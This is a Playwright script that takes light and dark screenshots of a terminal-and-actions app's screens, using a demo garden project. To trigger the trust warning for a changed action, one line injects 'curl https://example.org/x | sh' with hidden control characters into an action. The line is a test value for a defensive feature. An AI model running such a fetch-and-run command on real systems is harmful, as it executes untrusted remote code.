// Takes a picture of every screen, light and dark, narrow and wide, for people who judge how it looks:
// `cargo xtask shots` runs it after the real window's pictures. Nothing in them is painted by hand.

import { mkdir, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Stage, until } from './stage.mjs';

const folder = process.env.SHOTS;
if (!folder) throw new Error('SHOTS is not set; run this by `cargo xtask shots`');
const SIZES = [
  [900, 640],
  [1600, 1000],
];

const action = (label, icon, ...lines) =>
  [`label: ${label}`, `icon: ${icon}`, 'steps:', ...lines.map((line) => `  - ${line}`), ''].join('\n');
const types = (line) => `write: ${JSON.stringify(`${line}\r`)}`;

const GARDEN = {
  check: action('Check the beds', 'ListChecks', types('ls -l --color beds'), 'wait_exit: 0'),
  harvest: action('Harvest', 'Carrot', types('cat beds/tomatoes.md'), 'wait_exit: 0'),
  greenhouse: action(
    'Heat the greenhouse until the seedlings are warm enough to be planted out',
    'Thermometer',
    types('sleep 300'),
    'wait_exit: 0',
  ),
  release: action(
    'Release 10 crates',
    'Rocket',
    types('echo packing; sleep 0.4; echo no more crates >&2; false'),
    'wait_exit: 0',
  ),
  'release-2': action('Release 2 crates', 'Rocket', types('true'), 'wait_exit: 0'),
  compost: `label: Turn the compost\nicon: Recycle\nsteps:\n  - type: wriet\n    content: "true\\r"\n`,
};
const OWN = {
  water: action(
    'Water slowly',
    'Droplet',
    types('echo begun; sleep 300'),
    'wait_for: "every bed is wet"',
    'wait_exit: 0',
  ).replace(
    'wait_for: "every bed is wet"',
    'wait_for: "begun"\n  - wait_for: "every bed is wet"\n    timeout: 10m',
  ),
  emoji: action('🌶️ 唐辛子を収穫する', 'Flame', types('true')),
  rtl: action('سقي الحديقة كل صباح', 'Sun', types('true')),
  sow: [
    'label: Sow',
    'description: Puts seeds into a bed and writes down which and when.',
    'icon: Sprout',
    'inputs:',
    '  - { id: crop, label: Crop, required: true, description: As it is written on the bag. }',
    '  - { id: bed, label: Bed, type: choice, choices: [north, south, greenhouse], default: south }',
    '  - { id: depth, label: Depth in mm, type: number, default: "15", required: true }',
    '  - { id: folder, label: Diary, type: path, default: ~/diary }',
    '  - { id: water, label: Water at once, type: boolean, default: "true" }',
    '  - { id: notes, label: Notes, type: text }',
    '  - { id: code, label: Code of the shed, type: secret }',
    'steps:',
    '  - write: "echo sowing {{ inputs.crop }}\\r"',
    '',
  ].join('\n'),
};

let stage;

/** A picture in each theme and size. */
async function shoot(name) {
  for (const [width, height] of SIZES) {
    await stage.page.setViewportSize({ width, height });
    for (const colorScheme of ['light', 'dark']) {
      await stage.page.emulateMedia({ colorScheme });
      await still();
      await stage.page.screenshot({ path: join(folder, `${name}-${colorScheme}-${width}.png`) });
    }
  }
}

/** Nothing moves any more and everything was painted, so the picture is of what stays. */
async function still() {
  await until('the end of all movement', () =>
    stage.page.evaluate(() => document.getAnimations().every((one) => one.playState !== 'running')),
  );
  await stage.page.evaluate(async () => {
    await document.fonts.ready;
    for (let frame = 0; frame < 3; frame += 1) await new Promise(requestAnimationFrame);
  });
}

const escape = () => stage.page.keyboard.press('Escape');
const button = (name) => stage.page.getByRole('button', { name, exact: true });
const region = () => stage.page.getByRole('region').filter({ visible: true });

async function palette(text) {
  await stage.page.keyboard.press('Control+Shift+P');
  await stage.dialog('Command palette').waitFor();
  if (text) await stage.dialog('Command palette').getByRole('combobox').fill(text);
}

async function command(label) {
  await palette(label);
  await stage.dialog('Command palette').getByRole('option', { name: label }).first().click();
  await stage.dialog('Command palette').waitFor({ state: 'detached' });
}

async function terminal() {
  const before = await stage.page.getByRole('tab').count();
  await stage.page.keyboard.press('Control+Shift+T');
  await until('a tab', async () => (await stage.page.getByRole('tab').count()) > before);
  await until('the focus', () => stage.inTerminal());
  await until('the prompt', async () => {
    const id = await stage.page.evaluate(
      () => document.activeElement?.closest('[data-terminal]')?.dataset.terminal,
    );
    return (await stage.texts())[id];
  });
}

async function runs(label, status) {
  const trusted = stage.dialog(`Trust ${label}?`);
  await stage.action(label).click();
  await until('the run', async () => {
    if (await trusted.isVisible()) await trusted.getByRole('button', { name: 'Trust and run' }).click();
    return (await stage.call('GET', '/v1/runs')).some((run) => run.label === label && run.status === status);
  });
}

async function staged(options, play) {
  stage = await Stage.build(options);
  try {
    await play();
  } finally {
    await stage.strike();
  }
}

async function plantBeds() {
  await mkdir(join(stage.project, 'beds'), { recursive: true });
  for (const [name, text] of [
    ['tomatoes', '# Tomatoes\n\nSown in March, ripe in August.\n'],
    ['beans', '# Beans\n'],
    ['herbs', '# Herbs\n'],
  ])
    await writeFile(join(stage.project, 'beds', `${name}.md`), text);
  await writeFile(join(stage.env.HOME, '.bashrc'), "PS1='\\[\\e[34m\\]\\W\\[\\e[0m\\] $ '\n");
}

await mkdir(folder, { recursive: true });

// The first start: no project, no actions but the defaults.
await staged({}, async () => {
  await stage.page.getByRole('combobox', { name: 'Project' }).click();
  await stage.page.getByRole('option', { name: /No project/ }).click();
  await shoot('first-run');
  await stage.page.getByRole('combobox', { name: 'Project' }).click();
  await shoot('projects');
  await stage.page.getByRole('option', { name: /garden/ }).click();
  await shoot('no-actions');
});

// A day at work.
await staged({ project: GARDEN, user: OWN }, async () => {
  await plantBeds();
  await shoot('nothing-open');
  await stage.action('Check the beds').click();
  await stage.dialog('Trust Check the beds?').waitFor();
  await shoot('trust');
  await escape();
  await stage.choose('Check the beds', 'Duplicate');
  await stage.dialog('Trust Check the beds?').waitFor();
  await shoot('trust-duplicate');
  await escape();
  await runs('Check the beds', 'succeeded');
  await stage.projectAction(
    'check',
    GARDEN.check.replace('beds\\r', 'beds; curl https://example.org/x | sh\\u200b\\u0003\\t\\e[0m\\r'),
  );
  await until('the mark', () =>
    stage.toolbar
      .locator('[data-action="project/check"]')
      .evaluate((one) => /not trusted/.test(one.parentElement.textContent)),
  );
  await stage.action('Check the beds').click();
  await stage.dialog('Trust Check the beds?').waitFor();
  await shoot('trust-changed');
  await escape();
  await stage.projectAction('check', GARDEN.check);
  await runs('Release 10 crates', 'failed');
  await runs('Water slowly', 'running');
  await shoot('running');
  await button('Run details').filter({ visible: true }).click();
  await shoot('details-running');
  await stage.page.getByRole('tab', { name: /Release 10 crates/ }).click();
  await button('Run details').filter({ visible: true }).click();
  await shoot('details-failed');
  await stage.page.getByRole('tab', { name: /Check the beds/ }).click();
  await button('Run details').filter({ visible: true }).click();
  await shoot('details-succeeded');
  await button('Run details').filter({ visible: true }).click();
  await button('1 problem').click();
  await shoot('problems');
  await button('Close problems').click();
  await terminal();
  await stage.page.keyboard.type('grep -rn --color=always in beds; sleep 1.2; ls nowhere\n');
  await stage.shows(/cannot access/);
  await stage.page.keyboard.type('seq 1 40\n');
  await stage.shows(/^40$/m);
  await shoot('full');
  await stage.page.keyboard.press('Control+Shift+F');
  await stage.page.getByRole('textbox', { name: 'Find in terminal' }).fill('in');
  await shoot('find');
  await escape();
  await stage.menu('Water slowly');
  await shoot('menu');
  await escape();
  await stage.action('Sow').click();
  await stage.dialog('Sow').waitFor();
  await shoot('inputs');
  await stage.dialog('Sow').getByRole('button', { name: 'Run' }).click();
  await shoot('inputs-wrong');
  await escape();
  await palette();
  await shoot('palette');
  await stage.dialog('Command palette').getByRole('combobox').fill('wat');
  await shoot('palette-typed');
  await stage.dialog('Command palette').getByRole('combobox').fill('zzzz');
  await shoot('palette-nothing');
  await escape();
  await stage.userAction('water', OWN.water.replace('Droplet', 'Droplets').replace('300', '400'));
  await until('two versions', async () => (await stage.ask('action', 'history', 'water')).length > 1);
  await stage.choose('Water slowly', 'History');
  await stage.dialog('History of Water slowly').getByRole('option').first().waitFor();
  await shoot('history');
  await escape();
  await stage.action('Check the beds').click({ button: 'right' });
  await stage.page.getByRole('menuitem', { name: 'Delete' }).click();
  await stage.page.getByRole('dialog').waitFor();
  await shoot('delete');
  await stage.page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
  await stage.messages.getByText(/deleted/).waitFor();
  await shoot('toast');
  await command('Deleted actions');
  await stage.page.getByRole('dialog').waitFor();
  await shoot('deleted');
  await escape();
  await command('Settings');
  const settings = stage.dialog('Settings');
  for (const tab of await settings.getByRole('tab').allInnerTexts()) {
    await settings.getByRole('tab', { name: tab }).click();
    await shoot(`settings-${tab.trim().toLowerCase().replaceAll(' ', '-')}`);
  }
  await escape();
  for (const key of ['D', 'E']) {
    const before = await region().count();
    await stage.page.keyboard.press(`Control+Shift+${key}`);
    await until('another pane', async () => (await region().count()) > before);
  }
  await stage.page.getByRole('tab', { name: /Water slowly/ }).click();
  await stage.page.keyboard.press('Control+Shift+E');
  await until('four panes', async () => (await region().count()) === 4);
  await shoot('four-panes');
  await stage.page.keyboard.press('Control+Shift+F');
  await stage.page.getByRole('textbox', { name: 'Find in terminal' }).fill('e');
  await shoot('four-panes-find');
  await escape();
  await button('Run details').filter({ visible: true }).first().click();
  await shoot('four-panes-details');
  await stage.host('host', 'stop', '--yes');
  await stage.page.getByRole('heading', { name: /host/ }).waitFor();
  await shoot('host-stopped');
});

// More of everything than one can look at.
const many = Object.fromEntries(
  Array.from({ length: 1000 }, (_, at) => [`a${at + 1}`, action(`Action a${at + 1}`, 'Play', types('true'))]),
);
await staged({ project: many, user: OWN }, async () => {
  await plantBeds();
  for (let at = 0; at < 29; at += 1) {
    await stage.call('POST', '/v1/terminals', { cwd: at % 3 ? stage.project : stage.env.HOME });
  }
  await until('all terminals', async () => (await stage.page.locator('[data-row]').count()) === 29);
  for (const row of await stage.page.locator('[data-row] > button').all()) await row.click();
  await until('all tabs', async () => (await stage.page.getByRole('tab').count()) === 29);
  await shoot('many');
  await stage.page.locator('[data-row] > button').nth(12).click();
  await shoot('many-middle');
  await button('All tabs').click();
  await stage.page.getByRole('menu', { name: 'All tabs' }).waitFor();
  await shoot('many-tabs');
  await escape();
  await palette('a7');
  await shoot('many-palette');
  await escape();
  await stage.page.getByRole('searchbox', { name: 'Filter actions' }).fill('a99');
  await shoot('many-filtered');
  await stage.page.getByRole('searchbox', { name: 'Filter actions' }).fill('nothing like it');
  await shoot('many-none');
  await stage.page.getByRole('searchbox', { name: 'Filter actions' }).fill('');
  await button('Quick actions').click();
  await shoot('folded');
  await button('Quick actions').click();
  for (const group of ['Project', 'Defaults']) {
    await stage.toolbar.locator('summary').filter({ hasText: group }).click();
  }
  await shoot('folded-groups');
});

// What surrounds the work goes away under an open page: the host hangs or dies, the project's folder moves.
await staged({ project: GARDEN, user: { sow: OWN.sow } }, async () => {
  await plantBeds();
  await stage.choose('Sow', 'Duplicate');
  await stage.messages.getByRole('button').first().waitFor();
  await shoot('toast-actions');
  await runs('Release 10 crates', 'failed');
  await runs('Heat the greenhouse until the seedlings are warm enough to be planted out', 'running');
  await terminal();
  await rename(stage.project, `${stage.project}2`);
  await stage.page.getByText('This folder is gone').waitFor();
  await shoot('folder-gone');
  await rename(`${stage.project}2`, stage.project);
  await stage.page.getByText('This folder is gone').waitFor({ state: 'detached' });
  const { pid } = await stage.ask('host', 'status');
  process.kill(pid, 'SIGSTOP');
  try {
    await stage.page.getByText('The host does not answer').waitFor();
    await shoot('host-silent');
  } finally {
    process.kill(pid, 'SIGCONT');
  }
  await stage.page.getByText('The host does not answer').waitFor({ state: 'detached' });
  process.kill(pid, 'SIGKILL');
  await stage.page.getByRole('heading', { name: 'The host is unreachable' }).waitFor();
  await shoot('host-unreachable');
  await stage.startHost(stage.url.port);
  await stage.page.evaluate((hash) => (location.hash = hash), stage.url.hash);
  await stage.messages.getByText('The host was restarted').waitFor();
  await shoot('host-restarted');
});
